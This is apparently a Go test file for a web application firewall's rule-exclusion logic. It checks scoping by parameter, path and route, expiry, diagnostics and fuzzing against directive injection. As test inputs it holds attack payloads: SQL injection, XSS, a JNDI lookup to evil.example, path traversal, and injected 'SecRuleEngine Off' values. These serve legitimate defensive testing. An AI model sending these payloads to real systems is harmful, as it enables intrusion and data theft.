package waf

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"go.uber.org/zap"

	"sallyport/internal/gate"
)

// exclude reads an exclusion as a file would have it: the ids or the tag, and
// the target.
func exclude(t testing.TB, rules, target string, more ...func(*Exclusion)) Exclusion {
	t.Helper()
	var x Exclusion
	var err error
	if x.First, x.Last, err = ParseRules(rules); err != nil {
		if x.Tag, err = ParseTag(rules); err != nil {
			t.Fatal(err)
		}
		x.First, x.Last = 0, 0
	}
	if target != "" {
		if x.Target, err = ParseTarget(target); err != nil {
			t.Fatal(err)
		}
	}
	x.At = map[string]gate.Diagnostic{"": {File: "x.yaml", Line: 1}, "rule": {File: "x.yaml", Line: 2}, "tag": {File: "x.yaml", Line: 3}, "target": {File: "x.yaml", Line: 4}, "expires": {File: "x.yaml", Line: 5}}
	for _, f := range more {
		f(&x)
	}
	return x
}

func forPath(path string) func(*Exclusion)   { return func(x *Exclusion) { x.Path = path } }
func forRoute(route string) func(*Exclusion) { return func(x *Exclusion) { x.Route = route } }
func forMethods(m ...string) func(*Exclusion) {
	return func(x *Exclusion) { x.Methods = m }
}

// excluding is a policy with exclusions.
func excluding(list ...Exclusion) func(*Policy) {
	return func(p *Policy) { p.Exclusions = list }
}

const sqli = "1'+UNION+SELECT+password+FROM+users--"

// TestExclusionByParameter lets an attack through at the parameter that an exclusion
// names and nowhere else, however the exclusion is carried out.
func TestExclusionByParameter(t *testing.T) {
	e := policies(t, map[string]func(*Policy){
		"built":   excluding(exclude(t, "942100-942999", "ARGS:q"), exclude(t, "932100-932999", "ARGS:q")),
		"tag":     excluding(exclude(t, "attack-sqli", "args:Q"), exclude(t, "attack-rce", "ARGS:q")),
		"pattern": excluding(exclude(t, "attack-sqli", `ARGS:/^[Q]$/`), exclude(t, "attack-rce", "ARGS:/^q$/")),
		"methods": excluding(exclude(t, "attack-sqli", "ARGS:q", forMethods("GET")), exclude(t, "attack-rce", "ARGS:q")),
	})
	for _, policy := range []string{"built", "tag", "pattern", "methods"} {
		for _, tc := range []struct {
			name   string
			call   call
			passes bool
		}{
			{"the parameter", get("/?q=" + sqli), true},
			{"in another case", get("/?Q=" + sqli), true}, // the engine does not tell them apart
			{"another parameter", get("/?r=" + sqli), false},
			{"one that begins alike", get("/?qq=" + sqli), false},
			{"both", get("/?q=" + sqli + "&r=" + sqli), false},
			{"another attack", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), false},
			{"the name of the parameter", get("/?" + sqli + "=q"), false},
			{"a cookie of that name", get("/", "Cookie", "q="+strings.ReplaceAll(sqli, "+", " ")), false},
			{"in a form", post(formType, "q="+sqli), policy != "methods"},
		} {
			o := run(e, tc.call.under(policy))
			if o.verdict.Passed() != tc.passes {
				t.Errorf("%s, %s: %s, rules %v", policy, tc.name, o.verdict.Action, o.rules())
			}
			if has := strings.Contains(strings.ToLower(tc.call.target+"&"+tc.call.body), "q=") && !strings.Contains(tc.call.target, "qq=") && !strings.Contains(tc.call.target, "=q"); slices.Contains(o.result.Excluded, 942100) != (has && (tc.passes || tc.call.method == "GET")) {
				t.Errorf("%s, %s: excluded %v", policy, tc.name, o.result.Excluded)
			}
		}
	}
	if n := len(e.policies["built"].exclusions); n != 2 || len(e.policies["built"].exclusions[0].live) > len(e.policies["built"].exclusions[0].built) {
		t.Error("what holds always is mostly done when the rules are built")
	}
}

// TestExclusionKeys names parameters with every character that SecLang gives a
// meaning to.
func TestExclusionKeys(t *testing.T) {
	sharedEngine(t) // alive, so that the patterns are compiled once
	for key, query := range map[string]string{
		"user[name]": "user[name]", "a/b": "a/b", "a|b": "a|b", "it's": "it%27s", `say"`: "say%22", "a,b": "a,b", "a b": "a+b",
		"a:b": "a:b", "ü": "%C3%BC", `a\b`: "a%5Cb", "$x": "$x", "a.b-c_d": "a.b-c_d", "/half": "/half", "UPPER": "UPPER", "*": "*",
	} {
		e := engineWith(t, excluding(exclude(t, "attack-sqli", "ARGS:"+key)))
		if o := run(e, get("/?"+query+"="+sqli)); slices.ContainsFunc(o.result.Hits, func(h gate.RuleHit) bool {
			return slices.Contains(h.Tags, "attack-sqli") && strings.HasPrefix(h.Variable, "ARGS:")
		}) {
			t.Errorf("%s: rules %v", key, o.rules())
		}
		run(e, get("/?x"+query+"="+sqli)).expect(t, "beside "+key, gate.Refuse, gate.WAFInboundScore)
		e.Close()
	}
}

// TestExclusionTargets takes out what is no parameter.
func TestExclusionTargets(t *testing.T) {
	sharedEngine(t)
	xml := `<?xml version="1.0"?><a><b>1' UNION SELECT password FROM users--</b></a>`
	for _, tc := range []struct {
		rules, target string
		call          call
	}{
		{"attack-sqli", "XML:/*", post("text/xml", xml)},
		{"attack-sqli", "REQUEST_XML", post("application/xml", xml)},
		{"attack-sqli", "REQUEST_COOKIES:q", get("/", "Cookie", "q=1' UNION SELECT password FROM users--")},
		{"944000-944999", "REQUEST_HEADERS:X-Api", get("/", "X-Api", "${jndi:ldap://evil.example/a}")},
		{"930130", "REQUEST_FILENAME", get("/.git/config")},
		{"OWASP_CRS", "FILES", multi(file("f", "shell.php", "x") + last)},
		{"attack-sqli", "ARGS:/^json\\.\\d+\\.q$/", post("application/json", `[{"q":"1' UNION SELECT password FROM users--"}]`)},
		{"attack-xss", "ARGS_NAMES:<script>alert(1)</script>", get("/?%3Cscript%3Ealert(1)%3C/script%3E=1")},
		{"913100", "", call{method: "GET", target: "/", fields: []gate.Field{{Name: "Host", Value: "shop.example.org"}, {Name: "User-Agent", Value: "sqlmap/1.7"}, {Name: "Accept", Value: "*/*"}}}},
	} {
		for _, more := range []func(*Exclusion){func(*Exclusion) {}, forPath("/")} {
			e := engineWith(t, excluding(exclude(t, tc.rules, tc.target, more)))
			without := run(sharedEngine(t), tc.call)
			without.expect(t, tc.target+" without", gate.Refuse, gate.WAFInboundScore)
			tc.call.source = nil
			run(e, tc.call).expect(t, fmt.Sprintf("%s %s, %d built", tc.rules, tc.target, len(e.policies["default"].exclusions[0].built)), gate.Pass, "")
			e.Close()
		}
	}
}

// TestExclusionConditions holds an exclusion to its route, path and methods.
func TestExclusionConditions(t *testing.T) {
	x := func(more ...func(*Exclusion)) func(*Policy) {
		return excluding(exclude(t, "attack-sqli", "ARGS:q", more...))
	}
	e := policies(t, map[string]func(*Policy){
		"path": x(forPath("/search")), "exact": x(forPath("=/search")), "root": x(forPath("/")), "route": x(forRoute("shop")), "slash": x(forPath("/search/")),
	})
	for _, tc := range []struct {
		policy, route, path string
		passes              bool
	}{
		{"path", "shop", "/search", true},
		{"path", "shop", "/search/deep", true},
		{"path", "shop", "/search/", true},
		{"path", "shop", "/searching", false},
		{"path", "shop", "/", false},
		{"path", "shop", "/a/search", false},
		{"path", "shop", "/search/..%2Fadmin", false},
		{"path", "shop", "/search%2F..%2Fadmin", false},
		{"path", "shop", "/search/%252e%252e/admin", false},
		{"path", "shop", "/search/..%5Cadmin", false},
		{"exact", "shop", "/search", true},
		{"exact", "shop", "/search/", false},
		{"exact", "shop", "/search/deep", false},
		{"slash", "shop", "/search/deep", true},
		{"slash", "shop", "/searching", false},
		{"root", "shop", "/anything", true},
		{"route", "shop", "/anything", true},
		{"route", "api", "/anything", false},
	} {
		req := get("/?q=" + sqli).under(tc.policy).request()
		req.Route.Name, req.Path = tc.route, tc.path
		tx := e.Begin(req)
		v := tx.Request()
		tx.Close()
		if v.Passed() != tc.passes {
			t.Errorf("%+v: %s %q", tc, v.Action, v.Reason)
		}
	}
	// The only route of a policy needs no condition.
	single := engineWith(t, func(p *Policy) { x(forRoute("shop"))(p); p.Routes = []string{"shop"} })
	if set := single.policies["default"]; len(set.exclusions[0].built) < 10 || !set.exclusions[0].always {
		t.Errorf("an exclusion for the only route is %+v", set.exclusions[0])
	}
}

// TestExclusionEnds ends an exclusion with its day while the gateway runs.
func TestExclusionEnds(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		until := time.Now().Add(time.Hour) // of the bubble's clock
		cfg := Config{Memory: 1 << 20, Policies: map[string]Policy{"default": standard()}}
		p := standard()
		p.Exclusions = []Exclusion{exclude(t, "attack-sqli", "ARGS:q", func(x *Exclusion) { x.Ends = until })}
		cfg.Policies["default"] = p
		e, err := New(cfg, zap.NewNop())
		if err != nil {
			t.Fatal(err)
		}
		defer e.Close()
		if len(e.warnings) > 0 {
			t.Error(e.warnings)
		}
		run(e, get("/?q="+sqli)).expect(t, "before its end", gate.Pass, "")
		time.Sleep(time.Hour)
		run(e, get("/?q="+sqli)).expect(t, "at its end", gate.Refuse, gate.WAFInboundScore)
		again, err := New(cfg, zap.NewNop())
		if err != nil {
			t.Fatal(err)
		}
		defer again.Close()
		if got, want := again.Warnings().Error(), "x.yaml:5: warning: expired: it is not applied; remove it, or set a later day"; got != want {
			t.Errorf("warnings %s, want %s", got, want)
		}
		if again.Policies()["default"].Ruleset == e.Policies()["default"].Ruleset {
			t.Error("rules with and without the exclusion have one hash")
		}
		run(again, get("/?q="+sqli)).expect(t, "after it", gate.Refuse, gate.WAFInboundScore)
	})
}

// TestExclusionDiagnostics refuses what would take the rules apart, and says
// what does nothing.
func TestExclusionDiagnostics(t *testing.T) {
	const own = `SecRule ARGS "@streq x" "id:7,phase:2,deny,tag:mine"
SecRuleRemoveById 942140
SecRule &ARGS:token "@eq 0" "id:8,phase:2,deny"
`
	for _, tc := range []struct{ rules, target, want string }{
		{"949110", "", "x.yaml:2: rule 949110 cannot be excluded: it adds up the score, and without it nothing that the others find would count; exclude the rules that matched"},
		{"959100", "ARGS:q", "x.yaml:2: rule 959100 cannot be excluded: it adds up the score, and without it nothing that the others find would count; exclude the rules that matched"},
		{"980170", "", "x.yaml:2: rule 980170 cannot be excluded: it adds up the score, and without it nothing that the others find would count; exclude the rules that matched"},
		{"900000-999999", "", "x.yaml:2: rule 900000 cannot be excluded: it sets up the Core Rule Set; exclude the rules that matched"},
		{"OWASP_CRS", "", "x.yaml:3: rule 900000 cannot be excluded: it sets up the Core Rule Set; exclude the rules that matched"},
		{"anomaly-evaluation", "", "x.yaml:3: rule 949111 cannot be excluded: it adds up the score, and without it nothing that the others find would count; exclude the rules that matched"},
		{"200002", "", "x.yaml:2: rule 200002 cannot be excluded: the gateway refuses bodies that cannot be read, whatever the rules say; exclude the rules that matched"},
		{"942102-942110", "", "x.yaml:2: no rule is meant by rules 942102-942110; the nearest ids are 942101 and 942120"},
		{"attack-sql", "ARGS:q", "x.yaml:3: no rule is meant by tag attack-sql; sallyport rules list shows the tags"},
		{"942140", "ARGS:q", "x.yaml:2: warning: without effect: own.conf:2 removes rule 942140"},
		{"942100", "", "x.yaml:2: warning: rule 942100 will look at nothing at all; name what it must not look at, as in target: ARGS:comment"},
		{"942100", "ARGS", "x.yaml:4: warning: every value of ARGS is taken out; name one, as in ARGS:comment"},
		{"942100", "ARGS:/name/", "x.yaml:4: warning: the pattern finds any name that it matches a part of; write it from ^ to $"},
		{"942100", "FILES", "x.yaml:4: warning: without effect: rule 942100 does not look at FILES; it looks at ARGS, ARGS_NAMES, REQUEST_COOKIES, REQUEST_COOKIES_NAMES, REQUEST_HEADERS, XML"},
		{"8", "ARGS:token", "x.yaml:4: rule 8 counts ARGS; exclude the whole rule: remove the target"},
		{"942100", "ARGS:q", ""},
		{"7", "ARGS:q", ""},
		{"mine", "ARGS:q", ""},
		{"OWASP_CRS", "ARGS:password", ""},
	} {
		p := standard()
		p.Exclusions = []Exclusion{exclude(t, tc.rules, tc.target)}
		dir := t.TempDir()
		p.RulesAfter = []string{writeFile(t, dir+"/own.conf", own)}
		_, ds, err := planFor("default", p)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.ReplaceAll(ds.Error(), dir+"/", ""); got != tc.want {
			t.Errorf("%s %s:\ngot  %s\nwant %s", tc.rules, tc.target, got, tc.want)
		}
	}
}

// TestExclusionsJoinTheHash names different exclusions by different hashes.
func TestExclusionsJoinTheHash(t *testing.T) {
	e := policies(t, map[string]func(*Policy){
		"none": func(*Policy) {}, "one": excluding(exclude(t, "942100", "ARGS:q")), "same": excluding(exclude(t, "942100", "ARGS:q", func(x *Exclusion) { x.Reason = "said otherwise" })),
		"other": excluding(exclude(t, "942100", "ARGS:r")), "path": excluding(exclude(t, "942100", "ARGS:q", forPath("/a"))), "path-b": excluding(exclude(t, "942100", "ARGS:q", forPath("/b"))),
	})
	seen := map[string]string{}
	for name, info := range e.Policies() {
		if other := seen[info.Ruleset]; other != "" && !slices.Contains([]string{"one", "same"}, name) {
			t.Errorf("%s and %s share %s", name, other, info.Ruleset)
		}
		seen[info.Ruleset] = name
	}
	if len(seen) != 5 {
		t.Errorf("%d sets of rules, want 5", len(seen))
	}
}

// FuzzExclusion compiles hostile fields and finds no other rule changed: the
// plan differs from the one without by one source that holds nothing but
// changes of the rules that the exclusion selects.
func FuzzExclusion(f *testing.F) {
	for _, seed := range [][4]string{
		{"942100", "ARGS:q", "/search", "shop"}, {"attack-sqli", "ARGS:/^a\\.\\d+$/", "", ""}, {"942100\nSecRuleEngine Off", "ARGS:q", "", ""},
		{"942100", "ARGS:q\"\nSecRuleEngine Off\n#", "", ""}, {"942100", `ARGS:q" "id:1,ctl:ruleEngine=Off`, "/'\"", "a,b"}, {"attack-sqli SecRuleEngine", "", "", ""},
		{"941100-942999", "ARGS:a|ARGS", "", ""}, {"942100", "!ARGS:q", "", ""}, {"942100", "ARGS:q\\", "", ""}, {"942100", "ARGS:/^a/|TX:/b$/", "", ""},
	} {
		f.Add(seed[0], seed[1], seed[2], seed[3])
	}
	before, ds, err := planFor("default", standard())
	if err != nil || len(ds) > 0 {
		f.Fatal(ds, err)
	}
	base := catalogue(before.sources)
	f.Fuzz(func(t *testing.T, rules, target, path, route string) {
		p := standard()
		x := Exclusion{Tag: rules, Path: path, Route: route}
		if first, last, err := ParseRules(rules); err == nil {
			x.First, x.Last, x.Tag = first, last, ""
		}
		if tgt, err := ParseTarget(target); err == nil {
			x.Target = tgt
		} else { // as if nobody had judged it
			x.Target = Target{Variable: target}
		}
		p.Exclusions = []Exclusion{x}
		after := plan{sources: slices.Clone(before.sources), data: before.data}
		if ds := after.exclude(p, base, time.Now()); ds.Fatal() || len(after.exclusions) == 0 {
			if len(after.sources) != len(before.sources) {
				t.Fatal("a refused exclusion changed the rules")
			}
			return
		}
		if len(after.exclusions) != 1 {
			t.Fatalf("%d exclusions", len(after.exclusions))
		}
		made := after.exclusions[0]
		for _, s := range after.sources[len(before.sources):] {
			text := ""
			for _, d := range s.directives {
				text += d.raw + "\n"
			}
			directives, bad := split("x", text)
			if len(bad) > 0 || len(directives) != len(made.built) {
				t.Fatalf("%d directives for %d rules: %q", len(directives), len(made.built), text)
			}
			for i, d := range directives {
				want := fmt.Sprintf("SecRuleUpdateTargetById %d \"!%s", made.built[i], made.Target.Variable)
				if made.Target == (Target{}) {
					want = fmt.Sprintf("SecRuleRemoveById %d", made.built[i])
				}
				if !strings.HasPrefix(d.raw, want) || len(parseRule(d).actions) > 1 {
					t.Fatalf("directive %q, want %q", d.raw, want)
				}
			}
		}
		for _, e := range base {
			if (slices.Contains(made.built, e.id) || slices.Contains(made.live, e.id)) && !made.selects(e) {
				t.Fatalf("rule %d is changed, which %q does not select", e.id, rules)
			}
		}
	})
}

// TestExcludedOfAll lists nothing of a request that lacks the target, and holds
// the list to its bound.
func TestExcludedOfAll(t *testing.T) {
	e := engineWith(t, excluding(exclude(t, "OWASP_CRS", "ARGS:q"), exclude(t, "913100", "", forPath("/api"))))
	if o := run(e, get("/?r=1")); len(o.result.Excluded) != 0 {
		t.Errorf("excluded %v without the target", o.result.Excluded)
	}
	if o := run(e, get("/?q=1")); len(o.result.Excluded) != maxExcluded {
		t.Errorf("%d rules excluded, want the bound %d", len(o.result.Excluded), maxExcluded)
	}
	req := get("/api").request()
	req.Path = "/api/v1"
	tx := e.Begin(req)
	tx.Request()
	if got := tx.Close().Excluded; !reflect.DeepEqual(got, []int{913100}) {
		t.Errorf("excluded %v, want the rule that did not run", got)
	}
}

// TestExclusionKeepsCounts takes out a rule that another one skips by count,
// and the rule below it goes on to run.
func TestExclusionKeepsCounts(t *testing.T) {
	file := writeFile(t, t.TempDir()+"/own.conf", `
SecRule ARGS:skip "@streq 1" "id:1,phase:2,pass,nolog,skip:1"
SecRule ARGS "@streq a" "id:2,phase:2,deny"
SecRule ARGS "@streq evil" "id:3,phase:2,deny"
`)
	own := func(list ...Exclusion) func(*Policy) {
		return func(p *Policy) { p.CRS, p.RulesAfter, p.Exclusions = crsOff, []string{file}, list }
	}
	e := policies(t, map[string]func(*Policy){"none": own(), "built": own(exclude(t, "2", "")), "live": own(exclude(t, "2", "", forPath("/")))})
	for policy, skipped := range map[string]gate.Action{"none": gate.Refuse, "built": gate.Pass, "live": gate.Pass} {
		ask := func(target string) gate.Action {
			req := get(target).under(policy).request()
			req.Path = "/"
			tx := e.Begin(req)
			defer tx.Close()
			return tx.Request().Action
		}
		if got := ask("/?b=a"); got != skipped {
			t.Errorf("%s, the rule itself: %s", policy, got)
		}
		if got := ask("/?skip=1&b=evil"); got != gate.Refuse {
			t.Errorf("%s, the rule below it: %s", policy, got)
		}
	}
}
